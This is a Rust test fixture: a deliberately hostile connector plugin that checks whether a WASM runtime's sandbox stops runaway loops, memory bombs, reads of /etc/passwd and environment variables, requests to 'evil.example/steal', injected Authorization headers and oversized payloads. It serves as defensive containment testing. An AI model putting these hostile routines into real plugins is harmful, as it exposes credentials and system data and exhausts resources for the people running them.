//! A deliberately hostile connector for the runtime's containment tests.
//!
//! `get-person` misbehaves according to the id it is given:
//!
//! | id | what it tries |
//! | --- | --- |
//! | `loop` | spins forever (the deadline must stop it) |
//! | `bomb` | allocates without end (the memory cap must stop it) |
//! | `file` | reads `/etc/passwd` and lists `/` (there are no preopened directories) |
//! | `env` | reads environment variables and arguments (there are none) |
//! | `egress` | sends a request to a host it was not allowed (denied) |
//! | `panic` | panics (an error, not a crash of the host) |
//! | `sleep` | sleeps an hour in a WASI call (the deadline must stop it: the host, not the plugin, is waiting) |
//! | `slow-loop` | sends `GET /slow` forever (each answer is slow: host time counts against the deadline) |
//! | `hang` | sends `GET /hang`, which never answers (stopped at the deadline, not the HTTP timeout) |
//! | `log-flood` | one 100 KB log line, 5,000 more lines, and 1 MB of stdout (the log caps must hold) |
//! | `huge-body` | sends `GET /endless`, a chunked answer without `Content-Length` that never ends |
//! | `big-request` | sends a 17 MiB request body (over the cap on what a request may carry) |
//! | `long-string` | returns a person whose `raw` is 2 MiB (over the cap per string) |
//! | `many-fields` | returns a person with 1,001 fields (over the cap per list) |
//! | `authorization` | sends `GET /people` with its own `Authorization` header (refused) |
//! | `api-key-header` | sends `GET /people` with its own `X-Api-Key` header (refused when the connector's API key goes in that header) |
//! | `userinfo` | sends a request to the URL in the setting `userinfo_url` (default `https://user:pass@evil.example/`), which has userinfo (refused) |
//! | anything else | behaves, returning a person with that id |
//!
//! `list-people` behaves, except with the cursor `huge-page`: 10,001 people in one page (over the
//! cap per page).
//!
//! What a Rust plugin cannot do — grow a table, declare several memories, multiply instances —
//! is tried by the hand-written core module in `wat/limits.wat`, wrapped into a component by the
//! runtime tests.

use hrsync_sdk::prelude::*;

/// The hostile connector.
pub struct Hostile;

impl Connector for Hostile {
    fn new() -> Self {
        Hostile
    }

    fn describe(&self) -> Descriptor {
        DescriptorBuilder::new("hostile", "0.0.0")
            .field("outcome", FieldKind::Text, "What the attempt got", "denied")
            .build()
    }

    fn list(&self, cursor: Option<String>) -> Result<Page, Error> {
        let mut page = Page::default();
        if cursor.as_deref() == Some("huge-page") {
            page.people = (0..10_001)
                .map(|i| person(&format!("p-{i}"), "listed"))
                .collect();
            return Ok(page);
        }
        page.people.push(person("p-1", "listed"));
        Ok(page)
    }

    fn get(&self, id: &str) -> Result<Person, Error> {
        match id {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "file" => {
                let read = std::fs::read_to_string("/etc/passwd").map(|s| s.len());
                let dir = std::fs::read_dir("/").map(|d| d.count());
                Ok(person(id, &format!("read={read:?} list={dir:?}")))
            }
            "env" => {
                let vars: Vec<(String, String)> = std::env::vars().collect();
                let args: Vec<String> = std::env::args().collect();
                let home = std::env::var("HOME").ok();
                Ok(person(
                    id,
                    &format!("vars={} args={} home={home:?}", vars.len(), args.len()),
                ))
            }
            "egress" => match http::Request::get("https://evil.example/steal").send() {
                Ok(r) => Ok(person(id, &format!("reached: {}", r.status))),
                Err(e) => Err(e),
            },
            "panic" => panic!("hostile plugin panicked on purpose"),
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(person(id, "woke up"))
            }
            "slow-loop" => loop {
                let _ = http::Request::get("/slow").send();
            },
            "hang" => match http::Request::get("/hang").send() {
                Ok(r) => Ok(person(id, &format!("answered: {}", r.status))),
                Err(e) => Err(e),
            },
            "log-flood" => {
                log::info(&"x".repeat(100_000));
                for i in 0..5_000 {
                    log::info(&format!("flood line {i}"));
                }
                let line = "y".repeat(99);
                for _ in 0..10_000 {
                    println!("{line}");
                }
                Ok(person(id, "flooded"))
            }
            "huge-body" => match http::Request::get("/endless").send() {
                Ok(r) => Ok(person(id, &format!("read {} bytes", r.body.len()))),
                Err(e) => Err(e),
            },
            "big-request" => {
                let body = vec![b'a'; 17 << 20];
                let mut request = http::Request::new(http::Method::Post, "/upload");
                request = request.body(body);
                match request.send() {
                    Ok(r) => Ok(person(id, &format!("sent: {}", r.status))),
                    Err(e) => Err(e),
                }
            }
            "long-string" => Ok(PersonBuilder::new(id, Lifecycle::Active, "active")
                .raw(&serde_json::Value::String("z".repeat(2 << 20)))
                .build()),
            "many-fields" => {
                let mut b = PersonBuilder::new(id, Lifecycle::Active, "active");
                for i in 0..1_001 {
                    b = b.text(&format!("f{i}"), Some("v"));
                }
                Ok(b.build())
            }
            "authorization" => http::Request::get("/people")
                .header("Authorization", "Bearer stolen")
                .send()
                .map(|r| person(id, &format!("answered: {}", r.status))),
            "api-key-header" => http::Request::get("/people")
                .header("X-Api-Key", "guessed")
                .send()
                .map(|r| person(id, &format!("answered: {}", r.status))),
            "userinfo" => {
                let url = settings::get_or("userinfo_url", "https://user:pass@evil.example/");
                http::Request::get(url)
                    .send()
                    .map(|r| person(id, &format!("answered: {}", r.status)))
            }
            other => Ok(person(other, "behaved")),
        }
    }
}

fn person(id: &str, outcome: &str) -> Person {
    PersonBuilder::new(id, Lifecycle::Active, "active")
        .text("outcome", Some(outcome))
        .build()
}

hrsync_sdk::export_connector!(Hostile);
